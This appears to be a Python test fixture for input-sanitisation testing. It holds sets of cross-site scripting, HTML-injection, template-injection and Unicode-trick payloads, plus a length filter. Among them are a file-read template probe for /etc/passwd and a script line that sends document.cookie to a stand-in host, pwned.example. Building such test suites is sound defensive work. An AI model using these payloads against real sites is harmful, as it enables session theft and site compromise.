"""What somebody might write to have it run: each is a text, and must be seen as one.

Those of up to 24 letters also fit a theme's name. What they would do if they ran: open a dialog, ask for `x/pwned`,
or leave an element behind that no page of ours has.
"""

PWNED = "pwned"

TAGS = (
    "<script>alert(1)</script>",
    "<script>alert(1)",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=/x/pwned.js></script>",
    "<script src=//pwned.example/x></script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--<img src=--><img src=x onerror=alert(1)//>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<script>location='//pwned.example/'+document.cookie</script>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=/x/pwned>",
    "<base href=//pwned.example/>",
    "<meta http-equiv=refresh content='0;url=/x/pwned'>",
    "<link rel=stylesheet href=/x/pwned.css>",
    "<style>@import'/x/pwned.css';</style>",
    "<form action=/x/pwned><button>Skicka</button></form>",
    "<template><script>alert(1)</script></template>",
    "<marquee onstart=alert(1)>",
)
ATTRIBUTES = (
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=/x/pwned.png>",
    "<body onload=alert(1)>",
    "<b onclick=alert(1)>hej",
    "<p onmouseover=alert(1)>",
    "<a onfocus=alert(1) autofocus href=#>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" style="background:url(/x/pwned)"',
    "x onerror=alert(1)",
    "`onmouseover=alert(1)`",
)
DRAWN = (
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script>",
    "<svg><a xlink:href='javascript:alert(1)'><text>hej</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<svg><use href='data:image/svg+xml,pwned'>",
    "<math><mtext><style><img src=x onerror=alert(1)>",
    "<svg><foreignObject><b onclick=alert(1)>",
)
ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>",
    "//pwned.example/x",
    "http://pwned.example/x",
)
ENTITIES = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)",
    "+ADw-script+AD4-alert(1)",
)
TEMPLATES = (
    "{{7*7}}",
    "{{config}}",
    "${alert(1)}",
    "{% include '/etc/passwd' %}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{limit} {0} %s %(n)s",
    "{{constructor.constructor('alert(1)')()}}",
    '{"type":"img","props":{"src":"/x/pwned"}}',
)
SIGNS = (
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "<ſcript>alert(1)</ſcript>",
    "\u202e<tpircs>alert(1)",
    "\u2066<img src=x onerror=alert(1)>\u2069",
    "مرحبا <img src=x onerror=alert(1)>",
    "שלום\u200f<svg onload=alert(1)>",
    "e\u0301" * 20,
    "Z̸̢͎̖a̵̛l̶̝g̸o̷",
    "👩‍👩‍👧‍👦 <b>👍🏽</b>",
    "\u200b\u200bhej\u200d",
    "\ufeff<script>alert(1)</script>",
    "a\x00b<script>alert(1)",
)

PAYLOADS = tuple(dict.fromkeys((*TAGS, *ATTRIBUTES, *DRAWN, *ADDRESSES, *ENTITIES, *TEMPLATES, *SIGNS)))
# Nobody gets so much in: the answer is how many letters too many it is.
ENDLESS = ("<b>" * 3334)[:10_000]


def of_at_most(letters: int) -> tuple[str, ...]:
    """The payloads that fit."""
    return tuple(payload for payload in PAYLOADS if len(payload) <= letters)
